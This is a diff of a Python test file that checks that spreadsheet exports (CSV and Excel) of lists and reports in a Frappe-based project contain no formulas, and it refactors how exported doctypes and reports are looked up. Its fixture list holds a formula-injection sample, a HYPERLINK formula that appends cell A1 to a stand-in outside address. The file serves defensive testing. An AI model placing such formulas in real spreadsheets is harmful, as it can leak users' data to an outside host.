@@ -13,9 +13,9 @@ from approvals import as_
 from frappe.utils.xlsxutils import make_xlsx
 from openpyxl import load_workbook
 
-from gongtongti.core import access, wrapped
+from gongtongti.core import wrapped
 from gongtongti.core.spreadsheets import exports
-from gongtongti.organisation import roles
+from gongtongti.features import DECLARED
 
 TRICKS = (
 	"=HYPERLINK(\"http://x.invalid/\"&A1,\"查看\")",
@@ -151,8 +151,8 @@ def text_field(doctype):
 
 EXPORTED = [
 	doctype
-	for doctype, rights in roles.RIGHTS.items()
-	if doctype in access.RULES and any("export" in given for given in rights.values())
+	for doctype, rights in DECLARED.rights.items()
+	if doctype in DECLARED.rows and any("export" in given for given in rights.values())
 ]
 
 
@@ -210,7 +210,7 @@ def test_an_exported_list_holds_no_formula(small, doctype, file_type):
 
 
 @pytest.mark.parametrize("file_type", ("CSV", "Excel"))
-@pytest.mark.parametrize("report", roles.REPORTS)
+@pytest.mark.parametrize("report", DECLARED.runners)
 def test_an_exported_report_holds_no_formula(small, papers, bird, report, file_type, monkeypatch):
 	"""Whatever a report answers: here every text in it is a trick."""
 	from frappe.desk import query_report
